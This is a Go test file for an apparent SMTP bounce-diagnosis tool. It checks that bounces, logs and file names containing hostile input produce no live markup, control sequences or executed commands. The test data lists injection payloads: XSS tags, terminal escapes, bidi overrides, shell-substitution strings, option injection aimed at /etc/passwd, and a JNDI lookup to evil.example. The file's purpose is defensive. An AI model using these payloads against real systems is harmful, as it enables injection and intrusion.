package main

import (
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"testing"

	"github.com/smtpdiag/smtpdiag/internal/markuptest"
	"github.com/smtpdiag/smtpdiag/report"
)

// hostileWords are what somebody may write where a bounce, a host or a log has
// names and words, each with what it tries.
var hostileWords = []struct{ name, words string }{
	{"escapes", "\x1b]0;owned\x07 \x1b[31;1m \x1b[2J \x9b2J \x08\x08 \x7f \x00 \x0e"},
	{"directions", "\u202emoc.elpmaxe\u202c \u2066x\u2069 \u200b\u200d \u2028 \u2029 \u061c \ufeff \U000e0041 \u3164"},
	{"broken characters", "\xff\xfe \xc3 \xed\xa0\x80 \xf4\x90\x80\x80 \ufffd"},
	{"script", `"><script>alert(1)</script><img src=x onerror=alert(1)>`},
	{"closing tags", "</pre></code></dd></td></title></style></article></main><base href=//evil.example>"},
	{"comments and entities", "<!-- <![CDATA[ ]]> &lt;script&gt; &#60;b&#62; &amp;"},
	{"styles", `<style>body{display:none}</style><div style="position:fixed" onclick=alert(1)>`},
	{"links", "[x](http://evil.example) ![i](http://evil.example/i.png) <http://evil.example> www.evil.example https://evil.example"},
	{"references", "[x]: http://evil.example [x] [^1] [^1]: x"},
	{"mentions", "@admin @team/all #1 GH-1 org/repo#2"},
	{"emphasis", "**bold** __bold__ *x* _x_ ~~gone~~ ~x~ ==x== $x$ $$x$$"},
	{"fences", "``` ```` ~~~ `` ` `x` ``x` "},
	{"tables", "| a | b | |---|---| \\| a"},
	{"lists", "- [x] done - [ ] to do # head 1. one > quote *** --- ==="},
	{"shell", "$(: >pwned) `: >pwned` ; : >pwned ; ' ; : >pwned ; ' \" ; : >pwned ; \" | : >pwned & : >pwned && : >pwned # \\"},
	{"options", "--output=/etc/passwd -rf ~ $HOME ${IFS} * ? !! \\"},
	{"formats", "%s %n %d %x {{.}} ${jndi:ldap://evil.example}"},
}

// hostileBounces gives bounces that hold words in every place which a bounce
// has: as a delivery-status report, and as the text that Postfix writes.
func hostileBounces(words string) map[string]string {
	line := strings.ReplaceAll(words, "\x00", "")
	quoted := `"` + strings.NewReplacer(`\`, `\\`, `"`, `\"`).Replace(line) + `"`
	head := "From: " + line + " <MAILER-DAEMON@mx.sender.example>\nTo: reports@sender.example\nSubject: Undelivered Mail " + line +
		"\nDate: Sun, 4 Jan 2026 09:42:12 +0000\nMessage-ID: <" + line + "@mx.sender.example>\nMIME-Version: 1.0\n"
	report := head + "Content-Type: multipart/report; report-type=delivery-status; boundary=b\n\n--b\nContent-Type: text/plain; charset=" + quoted + "\n\n" + words +
		"\n\n--b\nContent-Type: message/delivery-status\n\nReporting-MTA: dns; " + line + "\nX-Postfix-Queue-ID: " + line + "\nX-Postfix-Sender: rfc822; " + quoted + "@sender.example\n"
	for _, recipient := range []string{quoted + "@corp.example", "user@" + line, line, "<" + line + "@corp.example>"} {
		report += "\nFinal-Recipient: rfc822; " + recipient + "\nOriginal-Recipient: rfc822; " + recipient + "\nAction: failed " + line + "\nStatus: 5.1.1 (" + line +
			")\nRemote-MTA: dns; " + line + "\nDiagnostic-Code: smtp; 550 5.1.1 " + line + " user unknown\n"
	}
	report += "\n--b\nContent-Type: message/rfc822\n\nFrom: " + quoted + " <" + line + "@sender.example>\nTo: " + quoted + "@corp.example\nSubject: " + line + "\nMessage-ID: <" + line + "@x>\n\n" + words + "\n--b--\n"
	text := head + "\nThis is the mail system at host " + line + ".\n\n<user@corp.example>: host " + line + "[192.0.2.7] said: 550 5.1.1 " + line +
		"\n    User unknown (in reply to RCPT TO command)\n\n<" + quoted + "@corp.example>: " + line + "\n"
	return map[string]string{"report": report, "text": text}
}

// TestHostileBounces reads bounces that hold hostile words everywhere, in files
// of hostile names, in every format: no words become markup or control, and no
// command that is suggested runs any.
func TestHostileBounces(t *testing.T) {
	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
	for _, test := range hostileWords {
		t.Run(test.name, func(t *testing.T) {
			t.Chdir(t.TempDir())
			name := strings.NewReplacer("/", "_", "\x00", "").Replace(test.words)
			for form, raw := range hostileBounces(test.words) {
				file := form + name + ".eml"
				if err := os.WriteFile(file, []byte(raw), 0o600); err != nil {
					t.Fatal(err)
				}
				for _, command := range [][]string{{"bounce"}, {"bounce", "-v"}, {"bounce", "--redact"}, {"diagnose", "--offline"}, {"diagnose", "--offline", "-v"}} {
					checkHostile(t, append(command, file))
				}
			}
			checkHostile(t, []string{"explain", "-v", "--", "550 5.1.1 " + strings.ReplaceAll(test.words, "\x00", "") + " user unknown"})
			log := "Jan  4 09:42:12 mx1 postfix/smtpd[4711]: NOQUEUE: reject: RCPT from " + test.words + "[192.0.2.25]: 550 5.1.1 <user@example.com>: Recipient address rejected: " +
				test.words + "; from=<" + test.words + "> to=<user@example.com> proto=ESMTP helo=<" + test.words + ">\n"
			if err := os.WriteFile("log"+name, []byte(log), 0o600); err != nil {
				t.Fatal(err)
			}
			checkHostile(t, []string{"log", "log" + name})
			if _, err := os.Stat("pwned"); err == nil {
				t.Error("a suggested command ran what a bounce says")
			}
		})
	}
}

// checkHostile runs a command in every format and looks at what it prints.
func checkHostile(t *testing.T, args []string) {
	t.Helper()
	for _, format := range report.Formats() {
		s, out, errs := testStreams(false)
		if status := execute(t.Context(), s, append([]string{args[0], "-o", format.Name}, args[1:]...)); status != 0 {
			t.Errorf("%q: exit status %d: %s", args, status, errs)
		}
		if r := markuptest.InText(out.String() + errs.String()); r != 0 {
			t.Errorf("%s of %q holds %U", format.Name, args, r)
		}
		switch format.Name {
		case "markdown":
			if markup := markuptest.InMarkdown(out.Bytes()); markup != "" {
				t.Errorf("%q gives Markdown with %s:\n%s", args, markup, out)
			}
		case "html":
			for _, markup := range markuptest.InHTML(out.Bytes()) {
				t.Errorf("%q gives HTML with %s", args, markup)
			}
		case "json":
			var doc any
			if err := json.Unmarshal(out.Bytes(), &doc); err != nil {
				t.Fatalf("%q: %v", args, err)
			}
			for _, command := range stringsAt(doc, "command") {
				runSuggested(t, command)
			}
		}
	}
}

// stringsAt gives all strings under a key, at any depth.
func stringsAt(doc any, key string) []string {
	var found []string
	switch v := doc.(type) {
	case map[string]any:
		for name, inner := range v {
			if s, ok := inner.(string); ok && name == key {
				found = append(found, s)
				continue
			}
			found = append(found, stringsAt(inner, key)...)
		}
	case []any:
		for _, inner := range v {
			found = append(found, stringsAt(inner, key)...)
		}
	}
	return found
}

// runSuggested runs a command in a shell that finds no programs, so that
// nothing happens but what the shell itself does: substitutions, redirections.
func runSuggested(t *testing.T, command string) {
	t.Helper()
	sh, err := exec.LookPath("sh")
	if err != nil {
		t.Skip(err)
	}
	cmd := exec.CommandContext(t.Context(), sh, "-c", command)
	cmd.Env = []string{"PATH=/nonexistent"}
	out, _ := cmd.CombinedOutput() // it fails: there are no programs
	if strings.Contains(strings.ToLower(string(out)), "syntax error") || strings.Contains(string(out), "Unterminated") {
		t.Errorf("%q is no command: %s", command, out)
	}
}

// TestHostileSizes reads a line of a megabyte and a thousand recipients: what
// is shown stays readable, and memory in proportion.
func TestHostileSizes(t *testing.T) {
	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
	thousand := func(reply string) string {
		var b strings.Builder
		b.WriteString("From: MAILER-DAEMON@mx.sender.example\nMIME-Version: 1.0\nContent-Type: multipart/report; report-type=delivery-status; boundary=b\n\n--b\nContent-Type: message/delivery-status\n\nReporting-MTA: dns; mx.sender.example\n")
		for i := range 1000 {
			fmt.Fprintf(&b, "\nFinal-Recipient: rfc822; user%d@corp.example\nAction: failed\nStatus: 5.1.1\nRemote-MTA: dns; mx1.corp.example\nDiagnostic-Code: smtp; 550 5.1.1 <user%d@corp.example>: "+reply+"\n", i, i)
		}
		return b.String() + "\n--b--\n"
	}
	line := func(piece string) string {
		long := strings.Repeat(piece, 1<<20/len(piece))
		return "From: MAILER-DAEMON@mx.sender.example\nSubject: Undelivered Mail Returned to Sender\n\nThis is the mail system at host mx.sender.example.\n\n<user@corp.example>: host mx1.corp.example[192.0.2.7] said: 550 5.1.1 User unknown " + long + " (in reply to RCPT TO command)\n"
	}
	tests := []struct {
		name, raw string
		seen      string // on a terminal
		lines     int    // that a terminal and a ticket show at most
	}{
		{"a thousand recipients", thousand("User unknown"), "999 others", 300},
		{"one line of letters", line("a"), "FAILED", 300},
		{"one line of words", line("word "), "FAILED", 300},
		{"one line of brackets", line("<["), "FAILED", 300},
		{"one line of backticks", line("`` `"), "FAILED", 300},
		{"one line of bars", line("|-"), "FAILED", 300},
		{"one line of addresses", line("<a@b.example> "), "FAILED", 300},
		{"one line of escapes", line("\x1b[31m"), "FAILED", 300},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			file := filepath.Join(t.TempDir(), "bounce.eml")
			if err := os.WriteFile(file, []byte(test.raw), 0o600); err != nil {
				t.Fatal(err)
			}
			for _, command := range [][]string{{"bounce"}, {"diagnose", "--offline"}} {
				for _, format := range report.Formats() {
					lookAtSize(t, append(command, "-o", format.Name, file), format.Name, test.seen, test.lines, len(test.raw))
				}
			}
		})
	}
}

// lookAtSize runs one command on an input of so many bytes.
func lookAtSize(t *testing.T, args []string, format, seen string, most, bytes int) {
	t.Helper()
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	s, out, errs := testStreams(false)
	if status := execute(t.Context(), s, args); status != 0 {
		t.Errorf("%q: exit status %d: %s", args, status, errs)
	}
	runtime.ReadMemStats(&after)
	if used := (after.TotalAlloc - before.TotalAlloc) >> 20; used > 256 {
		t.Errorf("%q allocates %d MiB for %d KiB", args, used, bytes>>10)
	}
	if r := markuptest.InText(out.String()); r != 0 {
		t.Errorf("%q holds %U", args, r)
	}
	switch format {
	case "json", "ndjson":
		return // programs get everything
	case "text":
		if !strings.Contains(out.String(), seen) {
			t.Errorf("%q does not say %q", args, seen)
		}
	case "markdown":
		if markup := markuptest.InMarkdown(out.Bytes()); markup != "" {
			t.Errorf("%q gives Markdown with %s", args, markup)
		}
	case "html":
		for _, markup := range markuptest.InHTML(out.Bytes()) {
			t.Errorf("%q gives HTML with %s", args, markup)
		}
	}
	if n := strings.Count(out.String(), "\n"); n > most || out.Len() > 128<<10 {
		t.Errorf("%q prints %d lines of %d bytes", args, n, out.Len())
	}
}
